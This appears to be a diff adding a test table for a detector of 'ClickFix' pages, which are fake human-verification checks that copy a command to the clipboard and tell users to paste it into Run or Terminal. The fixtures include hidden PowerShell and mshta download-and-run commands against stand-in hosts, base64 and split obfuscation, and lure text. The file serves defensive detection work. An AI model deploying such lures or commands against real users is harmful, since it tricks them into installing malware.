@@ -1,0 +1,22 @@
+import { clickfix } from '../../../classifiers/detectors/clickfix.ts';
+import { behaviourOf } from '../capture-builder.ts';
+import { describeDetector } from './table.ts';
+
+const command = 'powershell -w hidden -c "iex (iwr https://cdn.lure.test/a)"';
+const lure = 'Verify you are human. Press Windows + R, then Ctrl + V and Enter.';
+const copies = `document.getElementById("b").onclick = () => navigator.clipboard.writeText('${command}');`;
+
+describeDetector(clickfix, [
+  { page: 'a manual with a copy button', raises: [], sketch: { body: '<pre>curl -fsSL https://get.rivet.test | sh</pre><p>Open a terminal and paste it.</p>', scripts: ["b.onclick = () => navigator.clipboard.writeText('curl -fsSL https://get.rivet.test | sh')"], behaviour: [behaviourOf('clipboard-write', 'curl -fsSL https://get.rivet.test | sh', false)] } },
+  { page: 'a how-to about the Run window', raises: [], sketch: { body: 'Press Windows + R to open the Run dialog. Type powershell and press Enter. Paste with Ctrl + V.' } },
+  { page: 'a report about the trick that shows its command', raises: [], sketch: { body: `Fake checks say "verify you are human", then "press Windows + R, Ctrl + V": <code>${command}</code>` } },
+  { page: 'a share button that copies an address', raises: [], sketch: { body: 'Copy link', behaviour: [behaviourOf('clipboard-write', 'https://pages.example.test/a', true)] } },
+  { page: 'a real captcha', raises: [], sketch: { body: 'Verify you are human', scripts: ['window.turnstile.render()'] } },
+  { page: 'a command copied unasked and not shown', raises: ['clipboard-command-hidden', 'clipboard-command-unprompted'], sketch: { body: 'Loading', behaviour: [behaviourOf('clipboard-write', command)] } },
+  { page: 'a check that copies a command on a click', raises: ['clipboard-command-hidden', 'clipboard-command-lure', 'run-instructions-lure', 'scripted-command-lure'], sketch: { body: lure, scripts: [copies], behaviour: [behaviourOf('clipboard-write', command, false)] } },
+  { page: 'a check whose instructions only a click brings up', raises: ['run-instructions-lure', 'scripted-command-lure'], sketch: { text: 'I am not a robot', body: `I am not a robot <div style="display:none">${lure}</div>`, scripts: [copies] } },
+  { page: 'a check with its command in base64', raises: ['run-instructions-lure', 'scripted-command-lure'], sketch: { body: lure, scripts: [`navigator.clipboard.writeText(atob("${Buffer.from(command).toString('base64')}"))`] } },
+  { page: 'a check with its command in pieces', raises: ['run-instructions-lure', 'scripted-command-lure'], sketch: { body: lure, scripts: ["navigator.clipboard.writeText('msh' + 'ta https://cdn.lure.test/x')"] } },
+  { page: 'a German check for a Mac', raises: ['run-instructions-lure', 'scripted-command-lure'], sketch: { body: 'Bestätigen Sie: Ich bin kein Roboter. Öffnen Sie das Terminal und drücken Sie Cmd + V.', scripts: ["navigator.clipboard.writeText('echo Y3VybA== | base64 -d | bash')"] } },
+  { page: 'a hidden command behind a plain button', raises: ['scripted-command'], sketch: { body: 'Get the guide', scripts: [copies] } },
+]);
